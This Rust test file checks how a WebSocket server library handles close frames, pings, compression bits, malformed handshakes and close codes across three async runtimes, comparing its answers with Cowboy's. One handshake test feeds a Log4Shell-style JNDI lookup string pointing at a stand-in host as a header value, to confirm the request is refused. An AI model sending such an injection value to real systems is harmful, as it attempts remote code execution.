//! Where Cowboy is known to go wrong, and what its documentation leaves to the handler: our answers, on each
//! runtime.
#![cfg(all(feature = "runtimes", not(miri)))]

use core::time::Duration;

use sansocket::{
    Accept, Cause, CloseCode, CloseFrame, Compression, Config, Keepalive, ProtocolError, Refusal, Role, Side,
    Timer,
};
use sansocket_driver::{Error, Io, Outcome, Reply, Serve};
use sansocket_tests::raw::Raw;
use sansocket_tests::runtimes::{Adapter, AsyncStd, Smol, Tokio, test};
use sansocket_tests::served::{Served, request};
use sansocket_tests::stage::{Actor, Call, Notes, echo, idle};
use sansocket_tests::wire::{self, BINARY, CLOSE, CONTINUATION, PING, PONG, TEXT};

const CONFIG: Config = Config::new();
const DEFLATE: Config = CONFIG.compression(Some(Compression::new().min_size(0)));
const RSV1: u8 = 0x40;

sansocket_tests::on_each_runtime!(
    a_close_reaches_a_client_that_goes_on_sending,
    a_client_that_does_not_answer_our_close_is_left_after_the_close_timeout,
    a_quiet_client_is_pinged_and_one_that_does_not_answer_is_closed_with_1011,
    a_ping_is_answered_before_the_handler_is_told,
    each_end_has_its_close_frame_and_its_cause,
    the_rules_and_codes_of_the_rfc_hold_in_versions_7_and_8,
    what_is_wrong_with_a_request_is_said_and_not_always_400,
    a_ping_within_a_compressed_message_is_no_part_of_it,
    a_close_within_a_character_is_a_close,
    rsv1_where_it_means_nothing_is_a_close_with_1002,
    a_parameter_that_stands_twice_declines_the_offer,
    close_codes_1012_to_1014_are_codes,
);

/// An open WebSocket on which this extension was agreed upon.
async fn compressed<R: Adapter>(offer: &str) -> Served<R> {
    let mut served = Served::<R>::new(DEFLATE, Accept::new(), echo).await;
    let answer = served.ask(&request(&format!("Sec-WebSocket-Extensions: {offer}\r\n"), b"")).await;
    assert_eq!(answer.header("sec-websocket-extensions"), Some(offer));
    served
}

fn masked(opcode: u8, payload: impl AsRef<[u8]>) -> Vec<u8> {
    wire::frame(Role::Server, opcode, payload)
}

/// Cowboy closes the socket behind its Close; what the client sends then brings a reset, which may take the
/// Close away.
async fn a_close_reaches_a_client_that_goes_on_sending<R: Adapter>() {
    let mut served = Served::<R>::open(CONFIG, |call, reply| {
        if let Call::Message(_) = call {
            reply.close(CloseFrame::new(CloseCode::TRY_AGAIN_LATER, "full")?);
        }
        Ok(())
    })
    .await;
    served.client.write(&masked(TEXT, "one")).await.unwrap();
    let large = masked(BINARY, vec![0; 100_000]);
    for _ in 0..20 {
        served.client.write(&large).await.unwrap();
    }
    let notes = served.notes.clone();
    served.expect_close(b"\x03\xF5full").await;
    assert_eq!(notes.get()[1..], ["open", "message one", "close Closed(Local)"]);
}

async fn a_client_that_does_not_answer_our_close_is_left_after_the_close_timeout<R: Adapter>() {
    let config = CONFIG.close_timeout(Duration::from_millis(20));
    let served = Served::<R>::open(config, |call, reply| {
        if let Call::Open = call {
            reply.stop();
        }
        Ok(())
    })
    .await;
    let end = served.expect_last(b"\x88\x02\x03\xE8").await;
    assert_eq!((end.cause(), end.is_clean()), (&Cause::TimedOut(Timer::Close), false));
}

/// Cowboy sends no Ping of its own.
async fn a_quiet_client_is_pinged_and_one_that_does_not_answer_is_closed_with_1011<R: Adapter>() {
    let soon = Duration::from_millis(20);
    let config = CONFIG.keepalive(Keepalive::AfterSilence(soon)).close_timeout(soon);
    let mut served = Served::<R>::open(config.clone(), idle).await;
    for _ in 0..3 {
        let frames = wire::parse(&served.client.read().await.unwrap());
        assert!(frames.iter().all(|frame| frame.first == 0x80 | PING), "{frames:?}");
        served.client.write(&masked(PONG, &frames.last().unwrap().payload)).await.unwrap();
    }
    assert_eq!(served.end().await.cause(), &Cause::Lost);

    let mut served = Served::<R>::open(config.pong_timeout(Some(soon)), idle).await;
    let frames = wire::parse(&served.client.read_to_end().await.unwrap());
    assert_eq!(frames[0].first, 0x80 | PING);
    let last = frames.last().unwrap();
    assert_eq!((last.first, &last.payload), (0x80 | CLOSE, &wire::close_payload(1011)));
    assert_eq!(served.end().await.cause(), &Cause::TimedOut(Timer::Pong));
}

async fn a_ping_is_answered_before_the_handler_is_told<R: Adapter>() {
    let mut served = Served::<R>::open(CONFIG, |call, reply| match call {
        Call::Ping => Ok(reply.send("a Ping")?),
        Call::Pong => Ok(reply.send("a Pong")?),
        _ => Ok(()),
    })
    .await;
    let burst = [masked(PING, "1"), masked(PING, ""), masked(PONG, "unasked"), masked(PING, "3")].concat();
    served.client.write(&burst).await.unwrap();
    let answers = b"\x8A\x011\x81\x06a Ping\x8A\0\x81\x06a Ping\x81\x06a Pong\x8A\x013\x81\x06a Ping";
    served.client.expect(answers).await;
    let notes = served.notes.clone();
    served.close().await;
    assert_eq!(notes.get()[2..6], ["ping 1", "ping ", "pong unasked", "ping 3"]);
}

/// What a client does, the Close that it gets, and what the handler is told.
async fn each_end_has_its_close_frame_and_its_cause<R: Adapter>() {
    let violation = |error| Cause::Violation(error);
    let (local, remote) = (Cause::Closed(Side::Local), Cause::Closed(Side::Remote));
    let table: Vec<(Vec<u8>, &[u8], Cause)> = vec![
        (masked(CLOSE, ""), b"\x88\0", remote.clone()),
        (wire::close(Role::Server, 3999, "reason"), b"\x88\x02\x0F\x9F", remote),
        (masked(TEXT, "stop"), b"\x88\x02\x03\xE8", local.clone()),
        (masked(TEXT, "error"), b"\x88\x02\x03\xF3", local.clone()),
        (masked(TEXT, "panic"), b"\x88\x02\x03\xF3", local),
        (b"\x81\x05Hello".to_vec(), b"\x88\x02\x03\xEA", violation(ProtocolError::Unmasked)),
        (masked(CLOSE, [3]), b"\x88\x02\x03\xEA", violation(ProtocolError::CloseOfOneByte)),
        (
            wire::close(Role::Server, 1005, ""),
            b"\x88\x02\x03\xEA",
            violation(ProtocolError::InvalidCloseCode(1005)),
        ),
        (masked(TEXT, [0xC2, b'A']), b"\x88\x02\x03\xEF", violation(ProtocolError::InvalidUtf8)),
        (masked(CLOSE, [3, 0xE8, 0xFF]), b"\x88\x02\x03\xEF", violation(ProtocolError::InvalidCloseReason)),
        (
            masked(BINARY, [0; 126]),
            b"\x88\x02\x03\xF1",
            violation(ProtocolError::MessageTooBig { len: 126, max: 125 }),
        ),
        // Cowboy: 1002.
        (masked(RSV1 | TEXT, "no DEFLATE"), b"\x88\x02\x03\xEF", violation(ProtocolError::CorruptDeflate)),
    ];
    for (says, close, cause) in table {
        let act = |call: Call<'_>, reply: &mut Reply<'_, u32>| -> Outcome {
            if let Call::Message(message) = call {
                match message.as_text() {
                    Some("stop") => reply.stop(),
                    Some("panic") => panic!("as told"),
                    _ => return Err("as told".into()),
                }
            }
            Ok(())
        };
        let mut served = Served::<R>::new(DEFLATE.max_message(125), Accept::new(), act).await;
        served.ask(&request("Sec-WebSocket-Extensions: permessage-deflate\r\n", b"")).await;
        served.client.write(&says).await.unwrap();
        served.client.expect(close).await;
        // Ours is answered; theirs was.
        let _ = served.client.write(&masked(CLOSE, &close[2..])).await;
        served.client.expect_end().await;
        let end = served.end().await;
        assert_eq!(end.cause(), &cause, "{says:02x?}");
    }
}

/// The drafts had fewer codes and checks. Cowboy gives their clients those of the RFC, and so do we.
async fn the_rules_and_codes_of_the_rfc_hold_in_versions_7_and_8<R: Adapter>() {
    for version in [7, 8] {
        for (says, close) in [
            (masked(TEXT, [0xFF]), 1007),
            (masked(BINARY, [0; 126]), 1009),
            (b"\x81\xFE\x00\x05\0\0\0\0Hello".to_vec(), 1002),
            (masked(0x3, ""), 1002),
        ] {
            let mut served = Served::<R>::new(CONFIG.max_message(125), Accept::new(), idle).await;
            let request = String::from_utf8(request("", b"")).unwrap();
            let request = request.replace("Version: 13", &format!("Version: {version}"));
            served.ask(request.as_bytes()).await;
            served.client.write(&says).await.unwrap();
            served.expect_last(&wire::close(Role::Client, close, "")).await;
        }
    }
}

/// Cowboy: 400 without a word for all of these, but 501 for HTTP/1.0.
async fn what_is_wrong_with_a_request_is_said_and_not_always_400<R: Adapter>() {
    let good = String::from_utf8(request("", b"")).unwrap();
    for (from, to, status, refusal) in [
        ("Version: 13", "Version: 14", "426 Upgrade Required", Refusal::Version),
        ("Version: 13", "Version: 013", "426 Upgrade Required", Refusal::Version),
        ("Sec-WebSocket-Version: 13\r\n", "", "426 Upgrade Required", Refusal::Version),
        ("Upgrade: websocket\r\n", "", "426 Upgrade Required", Refusal::NoUpgrade),
        // What scanners send.
        ("n: Upgrade", "n: ${jndi:ldap://x.example/a}", "426 Upgrade Required", Refusal::NoUpgrade),
        ("HTTP/1.1", "HTTP/1.0", "505 HTTP Version Not Supported", Refusal::HttpVersion),
        ("GET ", "PUT ", "405 Method Not Allowed", Refusal::Method),
        ("dGhlIHNhbXBsZSBub25jZQ==", "short", "400 Bad Request", Refusal::Key),
    ] {
        assert!(good.contains(from));
        let mut served = Served::<R>::new(CONFIG, Accept::new(), idle).await;
        let answer = served.ask(good.replace(from, to).as_bytes()).await;
        assert_eq!(answer.status, format!("HTTP/1.1 {status}"), "{to}");
        let versions = (refusal == Refusal::Version).then_some("13, 8, 7");
        assert_eq!(answer.header("sec-websocket-version"), versions);
        assert_eq!(served.client.read_to_end().await.unwrap(), refusal.to_string().as_bytes());
        let Err(Error::Disconnected(end)) = served.outcome().await else { panic!("{to}: it was let in") };
        assert_eq!(end.cause(), &Cause::Refused(refusal));
    }
}

/// Cowboy inflates it into the message, and answers with what comes of that.
async fn a_ping_within_a_compressed_message_is_no_part_of_it<R: Adapter>() {
    let mut served = compressed::<R>("permessage-deflate").await;
    for part in [
        wire::fragment(Role::Server, RSV1 | TEXT, b"\xF2\x48\xCD\xC9"),
        masked(PING, "ping"),
        masked(CONTINUATION, b"\xC9\x07\x00"),
    ] {
        served.write_read(&part).await;
    }
    served.client.expect(b"\x8A\x04ping\xC1\x07\xF2\x48\xCD\xC9\xC9\x07\x00").await;
    served.close().await;
}

/// Cowboy goes on with the character in the reason, 1007, or crashes if there is none.
async fn a_close_within_a_character_is_a_close<R: Adapter>() {
    for (payload, answer) in [(&b""[..], &b"\x88\0"[..]), (b"\x03\xE8bye", b"\x88\x02\x03\xE8")] {
        let mut served = Served::<R>::open(CONFIG, idle).await;
        served.write_read(&wire::fragment(Role::Server, TEXT, b"\xE2\x82")).await;
        served.client.write(&masked(CLOSE, payload)).await.unwrap();
        let end = served.expect_last(answer).await;
        assert_eq!((end.cause(), end.is_clean()), (&Cause::Closed(Side::Remote), true));
    }
}

/// Cowboy lets the empty Ping and the continuation of a compressed message pass, and crashes without a Close
/// at the others.
async fn rsv1_where_it_means_nothing_is_a_close_with_1002<R: Adapter>() {
    let compressed_part = wire::fragment(Role::Server, RSV1 | TEXT, b"\xF2\x48\xCD\xC9");
    for stream in [
        masked(RSV1 | PING, ""),
        masked(RSV1 | PING, "ping"),
        [compressed_part, masked(RSV1 | CONTINUATION, b"\xC9\x07\x00")].concat(),
        [wire::fragment(Role::Server, TEXT, "Hel"), masked(RSV1 | CONTINUATION, "lo")].concat(),
    ] {
        let mut served = compressed::<R>("permessage-deflate").await;
        served.client.write(&stream).await.unwrap();
        let end = served.expect_last(b"\x88\x02\x03\xEA").await;
        assert_eq!(end.cause(), &Cause::Violation(ProtocolError::ReservedBits));
    }
}

/// RFC 7692 §7.1: such an offer is not acceptable. Cowboy only sees it if the values are the same.
async fn a_parameter_that_stands_twice_declines_the_offer<R: Adapter>() {
    for (parameters, further, answer) in [
        ("client_max_window_bits; client_max_window_bits=10", "", None),
        ("client_max_window_bits=10; client_max_window_bits=9", "", None),
        ("server_max_window_bits=12; server_max_window_bits=10", "", None),
        (
            "client_max_window_bits=10; client_max_window_bits=9",
            ", permessage-deflate",
            Some("permessage-deflate"),
        ),
    ] {
        let mut served = Served::<R>::new(DEFLATE, Accept::new(), echo).await;
        let lines = format!("Sec-WebSocket-Extensions: permessage-deflate; {parameters}{further}\r\n");
        assert_eq!(served.ask(&request(&lines, b"")).await.header("sec-websocket-extensions"), answer);
        served.close().await;
    }
}

/// Cowboy: 1002.
async fn close_codes_1012_to_1014_are_codes<R: Adapter>() {
    for code in 1012..=1014 {
        let mut served = Served::<R>::open(CONFIG, idle).await;
        served.client.write(&wire::close(Role::Server, code, "")).await.unwrap();
        let end = served.expect_last(&wire::close(Role::Client, code, "")).await;
        assert_eq!(end.cause(), &Cause::Closed(Side::Remote));
    }
}

#[cfg(unix)]
#[test]
fn a_unix_socket_is_a_stream_like_any_other() {
    async fn talk<R: Adapter, I: Io + Unpin + Send + 'static>((client, server): (I, I)) {
        // Nothing but the end that the server makes can end this.
        let config = CONFIG.close_timeout(Duration::from_secs(3600));
        let handler = Actor::new(Notes::default(), Accept::new(), echo);
        let says = [masked(TEXT, "Hello"), masked(CLOSE, "")].concat();
        let mut client = Raw(client);
        let client = async {
            client.write(&request("", &says)).await.unwrap();
            assert!(client.read_to_end().await.unwrap().ends_with(b"\r\n\r\n\x81\x05Hello\x88\0"));
            drop(client);
        };
        let (end, ()) = tokio::join!(Serve::new(server, R::timer(), config, handler), client);
        assert!(end.unwrap().is_clean());
    }

    test::<Tokio>(async {
        let (one, other) = tokio::net::UnixStream::pair().unwrap();
        talk::<Tokio, _>((sansocket_tokio::Stream(one), sansocket_tokio::Stream(other))).await;
    });
    test::<AsyncStd>(async {
        let (one, other) = async_std::os::unix::net::UnixStream::pair().unwrap();
        talk::<AsyncStd, _>((sansocket_async_std::Stream(one), sansocket_async_std::Stream(other))).await;
    });
    test::<Smol>(async {
        let (one, other) = smol::net::unix::UnixStream::pair().unwrap();
        talk::<Smol, _>((sansocket_async_std::Stream(one), sansocket_async_std::Stream(other))).await;
    });
}
